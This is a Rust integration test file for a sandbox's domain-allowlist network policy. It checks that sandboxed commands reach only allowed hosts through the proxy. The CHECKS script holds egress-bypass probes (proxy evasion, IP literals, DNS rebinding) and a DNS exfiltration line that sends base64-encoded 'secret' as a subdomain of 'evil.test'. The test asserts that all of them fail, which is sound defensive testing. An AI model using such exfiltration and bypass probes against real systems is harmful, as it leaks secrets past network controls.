//! `cordon sandbox --allow-domain`: a command in the local sandbox reaches allowed names
//! through the proxy and nothing else: not by IP, not around the proxy, not through DNS.

use std::collections::HashMap;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};

use cordon_tests::net::{self, DNS, SERVER};
use cordon_tests::{Workspace, cordon_bin};

/// Runs `script` in `cordon sandbox` with `flags`; (exit code, stdout, stderr).
async fn sandbox(ws: &Workspace, flags: &[&str], script: &str) -> (i32, String, String) {
    let out = tokio::process::Command::new(cordon_bin())
        .arg("sandbox")
        .arg("--workspace")
        .arg(ws.path())
        .args(flags)
        .args(["--", "sh", "-c", script])
        .stdin(std::process::Stdio::null())
        .output()
        .await
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// One `CHECK name rc=N out=...` line per check (after [`net::CHECK_PRELUDE`]), so one
/// sandbox serves them all.
const CHECKS: &str = r#"
check http curl -sS http://allowed.test/x
check connect curl -sS -p http://a.wild.test/y
check socks curl -sS --proxy socks5h://127.0.0.1:3128 http://allowed.test/s
check denied code http://other.test/
check unlisted code http://unlisted.test/
check rebind code http://rebind.test/
check ip_literal code http://203.0.113.10/
check own_loopback code --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:9/
check noproxy curl -sS --max-time 20 --noproxy '*' http://allowed.test/
check noproxy_ip curl -sS --max-time 20 --noproxy '*' http://203.0.113.10/
check dns_allowed getent hosts allowed.test
check dns_denied getent hosts other.test
check dns_exfil getent hosts c2VjcmV0.evil.test
"#;

#[test]
fn a_sandboxed_command_gets_out_only_through_the_policy() {
    let ips = [IpAddr::V4(SERVER), IpAddr::V4(DNS)];
    net::run(&ips, Some(IpAddr::V4(DNS)), || async {
        let names: HashMap<String, Ipv4Addr> = [
            ("allowed.test", SERVER),
            ("a.wild.test", SERVER),
            ("other.test", SERVER),
            ("unlisted.test", SERVER),
            ("rebind.test", Ipv4Addr::LOCALHOST),
        ]
        .into_iter()
        .map(|(n, a)| (n.to_string(), a))
        .collect();
        let asked = net::dns_server(IpAddr::V4(DNS), names).await;
        net::http_server(SocketAddr::new(IpAddr::V4(SERVER), 80), 0).await;
        let ws = Workspace::new();
        let flags = [
            "--allow-domain",
            "allowed.test",
            "--allow-domain",
            "*.wild.test",
            "--allow-domain",
            "rebind.test",
            "--settings",
            r#"{"sandbox":{"network":{"allowedDomains":["other.test"],"deniedDomains":["other.test"]}}}"#,
        ];
        let (code, stdout, stderr) =
            sandbox(&ws, &flags, &format!("{}{CHECKS}", net::CHECK_PRELUDE)).await;
        assert_eq!(code, 0, "{stdout}\n{stderr}");
        let c = net::parse_checks(&stdout);
        let get = |name: &str| {
            c.get(name)
                .cloned()
                .unwrap_or_else(|| panic!("{name}: {stdout}\n{stderr}"))
        };
        assert_eq!(get("http"), (0, "host=allowed.test path=/x".into()));
        assert_eq!(get("connect"), (0, "host=a.wild.test path=/y".into()));
        assert_eq!(get("socks"), (0, "host=allowed.test path=/s".into()));
        for refused in ["denied", "unlisted", "rebind", "ip_literal", "own_loopback"] {
            assert_eq!(get(refused), (0, "403".into()), "{refused}");
        }
        // Around the proxy there is no route: it fails, it does not hang or leak.
        for direct in ["noproxy", "noproxy_ip"] {
            assert_ne!(get(direct).0, 0, "{direct}: {:?}", get(direct));
        }
        let (rc, out) = get("dns_allowed");
        assert_eq!(rc, 0);
        assert!(out.starts_with("198.18.0.1"), "{out}");
        assert_ne!(get("dns_denied").0, 0);
        assert_ne!(get("dns_exfil").0, 0);
        // The proxy resolved allowed names only; nothing the sandbox asked reached DNS.
        let asked = asked.lock().unwrap().clone();
        for never in ["other.test", "unlisted.test", "c2VjcmV0.evil.test"] {
            assert!(
                !asked.iter().any(|n| n == never),
                "{never} was resolved: {asked:?}"
            );
        }
        assert!(asked.iter().any(|n| n == "allowed.test"), "{asked:?}");
        assert!(stderr.contains("egress refused other.test:80"), "{stderr}");
    });
}

/// A repository's `sandbox.network.allowedDomains` widens egress only once the workspace is
/// trusted: untrusted, `cordon sandbox` says it is ignored and the command has no way
/// out; after `cordon trust` the domain is in the effective policy and reached through the
/// proxy. State (CORDON_HOME, user and managed settings) lives in a temp dir.
#[test]
fn a_repository_allowed_domain_needs_cordon_trust() {
    let ips = [IpAddr::V4(SERVER), IpAddr::V4(DNS)];
    net::run(&ips, Some(IpAddr::V4(DNS)), || async {
        let names = HashMap::from([("allowed.test".to_string(), SERVER)]);
        let _asked = net::dns_server(IpAddr::V4(DNS), names).await;
        net::http_server(SocketAddr::new(IpAddr::V4(SERVER), 80), 0).await;
        let ws = Workspace::new();
        std::fs::create_dir_all(ws.join(".claude")).unwrap();
        std::fs::write(
            ws.join(".claude/settings.json"),
            r#"{"sandbox": {"network": {"allowedDomains": ["allowed.test"]}}}"#,
        )
        .unwrap();
        let home = tempfile::tempdir().unwrap();
        let cordon = |args: &[&str]| cordon_tests::cordon_at_home(home.path(), args);
        let ws_arg = ws.path().to_str().unwrap();
        let curl = [
            "sandbox",
            "--workspace",
            ws_arg,
            "--",
            "curl",
            "-sS",
            "--max-time",
            "20",
            "http://allowed.test/x",
        ];
        let out = cordon(&curl).output().await.unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_ne!(out.status.code(), Some(0), "untrusted, reached: {stderr}");
        assert!(stderr.contains("is not trusted"), "{stderr}");
        assert!(stderr.contains("sandbox.network"), "{stderr}");

        let trusted = cordon(&["trust", ws_arg]).output().await.unwrap();
        assert!(trusted.status.success(), "{trusted:?}");
        let out = cordon(&curl).output().await.unwrap();
        let (stdout, stderr) = (
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr),
        );
        assert_eq!(out.status.code(), Some(0), "trusted: {stdout}\n{stderr}");
        assert_eq!(stdout, "host=allowed.test path=/x", "{stderr}");
        assert!(!stderr.contains("is not trusted"), "{stderr}");
    });
}
